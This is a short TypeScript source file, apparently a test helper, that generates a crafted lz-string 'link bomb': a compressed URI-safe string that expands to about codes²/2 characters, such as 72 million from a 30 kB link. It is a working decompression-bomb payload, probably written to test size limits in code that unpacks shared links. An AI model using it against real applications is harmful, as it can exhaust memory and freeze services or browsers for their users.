/**
 * A crafted lz-string link that unpacks to far more than it holds: one literal, then `codes` codes
 * each naming the phrase being made (w + w[0]), so phrase k has k + 1 letters and the whole unpacks
 * to about codes² / 2 characters (12,000 codes: 72 million characters from a 30 kB link).
 */
const URI_SAFE = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$';

export function linkBomb(codes: number, letter = 'a'): string {
  const bits: number[] = [];
  /** Writes `count` bits of `value`, lowest first. */
  const write = (value: number, count: number) => {
    for (let i = 0; i < count; i++) bits.push((value >> i) & 1);
  };
  // The reader's schedule: numBits 3 after the first literal (read with 2 bits), wider every 2^n codes.
  write(0, 2);
  write(letter.charCodeAt(0), 8);
  let dictSize = 4;
  let numBits = 3;
  let enlargeIn = 4;
  for (let i = 0; i < codes; i++) {
    write(dictSize, numBits);
    dictSize++;
    if (--enlargeIn === 0) {
      enlargeIn = 2 ** numBits;
      numBits++;
    }
  }
  write(2, numBits);
  // Six bits a character, the first one highest; the last character filled up with zeros.
  const out: string[] = [];
  for (let i = 0; i < bits.length; i += 6) {
    let char = 0;
    for (let j = 0; j < 6; j++) char = (char << 1) | (bits[i + j] ?? 0);
    out.push(URI_SAFE.charAt(char));
  }
  return out.join('');
}
